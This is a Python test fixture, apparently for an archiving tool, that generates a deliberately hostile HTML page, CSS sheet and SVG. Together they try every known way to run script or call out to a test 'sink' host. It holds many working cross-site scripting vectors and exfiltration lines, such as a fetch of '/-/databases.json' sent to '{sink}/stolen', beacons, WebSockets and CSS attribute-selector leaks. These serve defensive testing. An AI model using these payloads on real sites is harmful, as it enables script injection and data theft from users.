"""A page that tries everything: to run, to call home, to lead away, to read what is around it.

Each attempt names itself in a request to ``sink``, or on the console (`MARK`).  Not for: what
becomes of it (``test_hostile_page.py``).
"""

MARK = "archive-script-ran"

_PAGE = """<!doctype html>
<html onload="R(0)" manifest="{sink}/manifest">
<head>
<title>&lt;script&gt;R(1)&lt;/script&gt;</title>
<meta http-equiv="refresh" content="1;url={sink}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<meta name="description" content='"><script>{run}</script>'>
<base href="{sink}/base/" target="_top">
<link rel="stylesheet" href="{sink}/sheet.css"><link rel="preload" as="image" href="{sink}/preload">
<link rel="prefetch" href="{sink}/prefetch"><link rel="dns-prefetch" href="{sink}/dns">
<link rel="preconnect" href="{sink}"><link rel="icon" href="{sink}/icon.png">
<link rel="manifest" href="{sink}/app.json"><link rel="modulepreload" href="{sink}/module.js">
<link rel="stylesheet" href="/hostile.css">
<style>@import "{sink}/import1.css"; @import url({sink}/import2.css);
@font-face {{ font-family: f; src: url({sink}/font.woff2) }}
body {{ font-family: f; background: url({sink}/background.png), image-set("{sink}/set.png" 1x) }}
p {{ background: u\\72l("{sink}/escaped.png"); list-style: url({sink}/list.png) }}
input[value^="s"] {{ background: url({sink}/exfiltrate?s) }}
b::after {{ content: url({sink}/content.png) }} a {{ cursor: url({sink}/cursor.png), auto }}
c {{ width: expression({run}); -moz-binding: url({sink}/binding) }}
</style><style>/*</style><script>{run}</script>*/</style>
<script>{run}</script><script src="{sink}/script.js"></script>
<script type="module">import "{sink}/module2.js"; {run}</script>
<script>navigator.serviceWorker && navigator.serviceWorker.register("/worker.js");
fetch("/-/databases.json").then(r => r.text()).then(t => fetch("{sink}/stolen?" + t.length));
top.document.title = "stolen"; top.location = "{sink}/top"; document.cookie = "a=b";
new WebSocket("ws:{sink_host}/socket"); navigator.sendBeacon("{sink}/beacon"); {run}</script>
<noscript><p title="</noscript><img src='{sink}/noscript.png' onerror='{run}'>"></noscript>
</head>
<body onload="{run}" onpageshow="{run}" background="{sink}/body.png">
<p>Words of the page.</p><p style="background:url({sink}/style.png)">styled</p>
<img src="{sink}/image.png" onerror="{run}" onload="{run}"><img srcset="{sink}/srcset.png 1x">
<img src=x onerror={run}><img/src=`x`/onerror={run}>
<picture><source srcset="{sink}/picture.png"><img src="{sink}/picture2.png"></picture>
<input type=image src="{sink}/input.png" autofocus onfocus="{run}"><input value="secret">
<video src="{sink}/video.mp4" poster="{sink}/poster.png" autoplay></video>
<audio src="{sink}/audio.mp3" autoplay></audio><video><track src="{sink}/track" default></video>
<object data="{sink}/object"></object><embed src="{sink}/embed">
<applet code="{sink}/applet"></applet>
<iframe src="{sink}/iframe"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>
<iframe src="javascript:{run}"></iframe><frameset><frame src="{sink}/frame"></frameset>
<svg onload="{run}"><script>{run}</script><image href="{sink}/svg.png"/>
<use href="{sink}/use.svg#x"/><foreignObject><iframe src="{sink}/foreign"></iframe></foreignObject>
<animate onbegin="{run}" attributeName="x" dur="1s"/>
<a><set attributeName="href" to="{sink}/set"/></a>
<rect width="9" height="9" fill="url({sink}/fill.svg#x)" filter="url({sink}/filter.svg#x)"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">
</table></mtext></math>
<svg></p><style><a id="</style><img src={sink}/mutation.png onerror={run}>">
</style></svg>
<template><img src="{sink}/template.png" onerror="{run}"></template>
<form action="{sink}/form" id=f><input name=a value=b><button>send</button></form>
<a href="javascript:{run}" id=j>j</a><a href="{sink}/ping" ping="{sink}/pinged">p</a>
<details open ontoggle="{run}"></details><marquee onstart="{run}">m</marquee>
<body onload="{run}"><isindex action="{sink}/isindex"><bgsound src="{sink}/sound">
<![CDATA[<script>{run}</script>]]><!--[if gte IE 4]><script>{run}</script><![endif]-->
<scr\0ipt>{run}</scr\0ipt><script\0>{run}</script>
<table background="{sink}/table.png"><td background="{sink}/cell.png"></table>
<script>document.getElementById("f").submit(); document.getElementById("j").click();</script>
<plaintext><script>{run}</script>
"""
_SHEET = """@import "{sink}/nested.css"; body {{ background: url({sink}/nested.png) }}
p::before {{ content: url('{sink}/before.png') }} @namespace url({sink}/namespace);
"""
_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="99" height="99" onload="{run}"><script>{run}</script><script xlink:href="{sink}/svg.js"/>
<image xlink:href="{sink}/in-svg.png" width="9" height="9"/>
<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="{run}">
<img src="{sink}/in-foreign.png"/></body></foreignObject></svg>
"""


def make_hostile(sink: str) -> dict[str, tuple[str, bytes]]:
    """Return what a hostile site answers, by target: media type and body."""
    words = {
        "sink": sink,
        "sink_host": sink.partition(":")[2],
        "run": f"console.log(`{MARK}`);new(Image)().src=`{sink}/ran`",
    }
    page = _PAGE.format(**words).encode()
    return {
        "/hostile": ("text/html", page),
        "/hostile.xhtml": ("application/xhtml+xml", page),
        "/hostile.txt": ("text/plain", page),
        "/hostile-unsaid": ("", page),
        "/hostile-utf16": (
            "text/html; charset=utf-16",
            b"\xff\xfe" + page.decode().encode("utf-16-le"),
        ),
        "/hostile.css": ("text/css", _SHEET.format(**words).encode()),
        "/hostile.svg": ("image/svg+xml", _SVG.format(**words).encode()),
    }
